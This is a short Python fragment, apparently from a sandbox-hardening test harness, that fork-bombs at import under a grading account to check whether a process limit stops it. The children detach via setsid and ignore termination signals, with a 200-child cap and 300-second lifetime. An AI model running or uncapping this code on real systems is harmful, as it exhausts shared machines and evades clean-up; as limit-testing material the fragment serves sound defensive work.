# ---------------------------------------------------------------- attack: fork_bomb
# At import: fork in a loop until the kernel refuses. Every child leaves the worker's session (setsid), ignores
# SIGTERM/SIGHUP and sleeps, so only a clean-up that finds every process of the account can end them.
# RLIMIT_NPROC (spec: limits.processes) must stop the loop; the loop also stops by itself after 200 children
# and every child exits after 300 s, so a missing limit is recorded instead of exhausting the machine.
def _attack_fork_bomb(cap=200, lifetime_s=300.0):
    import signal

    children, stopped_by = [], "cap reached"
    for _ in range(cap):
        try:
            pid = _aos.fork()
        except OSError as exc:
            stopped_by = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            try:
                _aos.setsid()
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                start = _attack_now()
                while _attack_now() - start < lifetime_s:
                    _atime.sleep(0.5)
            finally:
                _aos._exit(0)
        children.append(pid)
    _attack_record("fork_bomb", forked=len(children), stopped_by=stopped_by, children=children)


if _attack_is_student():
    _attack_fork_bomb()
else:
    _attack_record("fork_bomb", skipped="not running as the grading account")
